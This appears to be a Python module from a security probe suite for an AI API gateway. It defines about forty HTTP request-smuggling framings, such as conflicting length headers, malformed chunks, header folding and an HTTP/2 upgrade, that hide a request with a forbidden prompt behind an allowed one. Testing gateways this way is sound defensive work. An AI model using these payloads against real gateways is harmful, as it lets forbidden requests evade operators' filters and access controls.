"""Where does one request end and the next begin? Behind an allowed one hides a forbidden one, for whoever counts differently."""

from collections.abc import Callable
from typing import Final

from gateway.probe.message import CHAT, JSON, ask, at, chunked, fields, request
from gateway.probe.probe import Attempt, Must, Probe
from gateway.probe.target import Target

HOLE: Final = "gateway and upstream disagree on where a request ends"
SEEN: Final = "request smuggling, RFC 9112 section 11.2"

# Fields, and the body from: the allowed body, the hidden request, the allowed body in chunks.
Write = Callable[[bytes, bytes, bytes], bytes]
LENGTH: Final = b"Content-Length: "
CHUNKED: Final = b"Transfer-Encoding: chunked"

FRAMINGS: Final[tuple[tuple[str, tuple[bytes, ...], Write], ...]] = (
    ("length of all, and chunked", (LENGTH + b"#all", CHUNKED), lambda _, hidden, chunks: chunks + hidden),
    ("chunked, and length of all", (CHUNKED, LENGTH + b"#all"), lambda _, hidden, chunks: chunks + hidden),
    ("length of the first, and chunked", (LENGTH + b"#body", CHUNKED), lambda body, hidden, _: body + hidden),
    ("two lengths, the first longer", (LENGTH + b"#all", LENGTH + b"#body"), lambda body, hidden, _: body + hidden),
    ("two lengths, the last longer", (LENGTH + b"#body", LENGTH + b"#all"), lambda body, hidden, _: body + hidden),
    ("a list of lengths", (LENGTH + b"#body, #all",), lambda body, hidden, _: body + hidden),
    ("a length with a sign", (LENGTH + b"+#body",), lambda body, hidden, _: body + hidden),
    ("a length in hexadecimal", (LENGTH + b"0x#hex",), lambda body, hidden, _: body + hidden),
    ("a negative length", (LENGTH + b"-1",), lambda body, hidden, _: body + hidden),
    ("a length with a space within", (LENGTH + b"#body 0",), lambda body, hidden, _: body + hidden),
    ("a length in underscores", (b"Content_Length: #all", LENGTH + b"#body"), lambda body, hidden, _: body + hidden),
    ("space before the colon", (b"Content-Length : #all", LENGTH + b"#body"), lambda body, hidden, _: body + hidden),
    ("chunked with a space before the colon", (LENGTH + b"#all", b"Transfer-Encoding : chunked"), lambda _, h, chunks: chunks + h),
    ("chunked in another spelling", (LENGTH + b"#all", b"Transfer-Encoding: xchunked"), lambda _, h, chunks: chunks + h),
    ("chunked with a tab", (LENGTH + b"#all", b"Transfer-Encoding:\tchunked"), lambda _, h, chunks: chunks + h),
    ("chunked with a vertical tab", (LENGTH + b"#all", b"Transfer-Encoding: \x0bchunked"), lambda _, h, chunks: chunks + h),
    ("chunked, identity", (LENGTH + b"#all", b"Transfer-Encoding: chunked, identity"), lambda _, h, chunks: chunks + h),
    ("identity, chunked", (LENGTH + b"#all", b"Transfer-Encoding: identity", CHUNKED), lambda _, h, chunks: chunks + h),
    ("chunked in underscores", (LENGTH + b"#all", b"Transfer_Encoding: chunked"), lambda _, h, chunks: chunks + h),
    ("chunked twice", (CHUNKED, CHUNKED), lambda _, hidden, chunks: chunks + hidden),
    ("chunked, folded", (LENGTH + b"#all", b"Transfer-Encoding:\r\n chunked"), lambda _, h, chunks: chunks + h),
    ("chunked in a folded line", (LENGTH + b"#all", b"X-A: b\r\n Transfer-Encoding: chunked"), lambda _, h, chunks: chunks + h),
    ("a bare line feed before a field", (LENGTH + b"#body", b"X-A: b\nContent-Length: #all"), lambda body, hidden, _: body + hidden),
    ("a bare return before a field", (LENGTH + b"#body", b"X-A: b\rTransfer-Encoding: chunked"), lambda body, hidden, _: body + hidden),
    ("a zero byte in a field", (LENGTH + b"#body", b"X-A: b\0c"), lambda body, hidden, _: body + hidden),
    ("a request behind a request", (LENGTH + b"#body",), lambda body, hidden, _: body + hidden),
    ("a request behind chunks", (CHUNKED,), lambda _, hidden, chunks: chunks + hidden),
    ("no length", (), lambda body, hidden, _: body + hidden),
    ("a length named by Connection", (LENGTH + b"#body", b"Connection: content-length"), lambda body, hidden, _: body + hidden),
    ("expects to continue", (LENGTH + b"#body", b"Expect: 100-continue"), lambda body, hidden, _: body + hidden),
    ("expects something", (LENGTH + b"#body", b"Expect: 100-continuee"), lambda body, hidden, _: body + hidden),
    (
        "an upgrade to HTTP/2",
        (LENGTH + b"#body", b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__"),
        lambda body, hidden, _: body + hidden,
    ),
    ("a chunk's size with a prefix", (CHUNKED,), lambda body, hidden, _: b"0x%x\r\n%b\r\n0\r\n\r\n" % (len(body), body) + hidden),
    ("a chunk's size with a sign", (CHUNKED,), lambda body, hidden, _: b"+%x\r\n%b\r\n0\r\n\r\n" % (len(body), body) + hidden),
    ("a chunk's size too great", (CHUNKED,), lambda body, hidden, _: b"1%016x\r\n%b\r\n0\r\n\r\n" % (len(body), body) + hidden),
    ("a chunk's extension with a line feed", (CHUNKED,), lambda body, h, _: b"%x;a\n%b\r\n0\r\n\r\n" % (len(body), body) + h),
    ("a chunk that ends with a line feed", (CHUNKED,), lambda body, h, _: b"%x\r\n%b\n0\r\n\r\n" % (len(body), body) + h),
    ("a chunk longer than its size", (CHUNKED,), lambda body, h, _: b"%x\r\n%bXX\r\n0\r\n\r\n" % (len(body), body) + h),
    ("a length among the trailers", (CHUNKED,), lambda body, h, _: b"%x\r\n%b\r\n0\r\nContent-Length: 9\r\n\r\n" % (len(body), body) + h),
    ("a trailer that names the model", (CHUNKED, b"Trailer: X-Model"), lambda _, __, c: c[:-2] + b"X-Model: $\r\n\r\n"),
)


def _hidden(target: Target) -> bytes:
    body = ask(target.forbidden)
    return request(b"POST %b HTTP/1.1" % at(target, CHAT), [*fields(target), JSON, LENGTH + b"%d" % len(body)], body)


def _framed(lines: tuple[bytes, ...], write: Write) -> Callable[[Target], Attempt]:
    def make(target: Target) -> Attempt:
        body, hidden = ask(target.allowed), _hidden(target)
        whole = write(body, hidden, chunked(body)).replace(b"$", target.forbidden.encode())
        sizes = ((b"#all", b"%d" % len(whole)), (b"#body", b"%d" % len(body)), (b"#hex", b"%x" % len(body)))
        said = list(lines)
        for mark, size in sizes:
            said = [line.replace(mark, size) for line in said]
        own = [line for line in fields(target) if line != b"Connection: close"]
        return Attempt(request(b"POST %b HTTP/1.1" % at(target, CHAT), [*own, JSON, *said], whole))

    return make


def _get_with_body(target: Target) -> Attempt:
    own = [line for line in fields(target) if line != b"Connection: close"]
    return Attempt(request(b"GET %b HTTP/1.1" % at(target, "/v1/models"), own, _hidden(target)))


PROBES: Final = (
    *(Probe("framing", name, HOLE, SEEN, _framed(lines, write)) for name, lines, write in FRAMINGS),
    Probe("framing", "a request behind a GET", HOLE, SEEN, _get_with_body, Must.KEEP_UNSEEN),
)
